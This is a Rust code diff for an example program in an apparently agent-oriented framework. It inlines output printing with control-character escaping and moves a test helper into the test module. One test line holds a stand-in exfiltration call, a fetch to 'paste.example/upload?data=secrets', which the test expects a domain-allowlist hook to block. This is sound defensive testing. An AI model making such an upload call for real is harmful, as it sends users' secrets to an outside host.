@@ -14,10 +14,10 @@ use std::process::ExitCode;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 
-use crew_examples::{Transcript, describe_hook};
 use crew_runtime::prelude::*;
 use crew_runtime::schemars::JsonSchema;
 use crew_runtime::serde::Deserialize;
+use crew_runtime::transcript::describe_hook;
 
 #[derive(Deserialize, JsonSchema)]
 #[serde(crate = "crew_runtime::serde")]
@@ -181,7 +181,23 @@ fn run() -> Result<Vec<String>, Box<dyn Error>> {
 }
 
 fn main() -> ExitCode {
-    crew_examples::report(run())
+    match run() {
+        Ok(lines) => {
+            // Lines hold text the model and the tools chose: the console
+            // escapes control characters.
+            for line in lines {
+                crew_runtime::console::print_line(&line);
+            }
+            ExitCode::SUCCESS
+        }
+        Err(error) => {
+            eprintln!(
+                "error: {}",
+                crew_runtime::console::escape_control(&error.to_string())
+            );
+            ExitCode::FAILURE
+        }
+    }
 }
 
 #[cfg(test)]
@@ -204,7 +220,7 @@ mod tests {
         let blocked = "    PRE_TOOL_CALL  blocked the call: paste.example is not on this crew's allowlist [source: domain-allowlist] (1 hook ran)";
         let plain_ran =
             "    tool fetch_page runs with {\"url\":\"https://paste.example/upload?data=secrets\"}";
-        crew_examples::assert_has_lines(
+        assert_has_lines(
             &lines,
             &[
                 "global PRE_TOOL_CALL hooks: none",
@@ -226,5 +242,17 @@ mod tests {
             .filter(|l| l.contains("blocked the call"))
             .count();
         assert_eq!(blocks, 1, "{lines:#?}");
+    }
+
+    /// Panics unless every `expected` line is among `lines`, showing them
+    /// all.
+    #[track_caller]
+    fn assert_has_lines(lines: &[String], expected: &[&str]) {
+        for wanted in expected {
+            assert!(
+                lines.iter().any(|line| line == wanted),
+                "missing {wanted:?} in {lines:#?}"
+            );
+        }
     }
 }
